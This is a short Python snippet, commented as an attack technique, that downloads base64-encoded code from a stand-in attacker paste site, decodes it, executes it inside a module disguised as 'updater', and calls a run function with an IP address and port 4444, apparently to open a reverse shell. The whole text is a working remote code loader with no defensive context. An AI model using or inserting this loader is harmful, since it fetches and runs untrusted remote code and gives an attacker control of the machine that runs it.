# technique: download a base64-encoded python module from a paste-style URL, decode and load it as a module via types.ModuleType
import base64,types,urllib.request as u
m=types.ModuleType("updater")
exec(base64.b64decode(u.urlopen("https://paste.attacker.example/raw/q8Zk1").read()),m.__dict__)
m.run("10.0.0.9",4444)
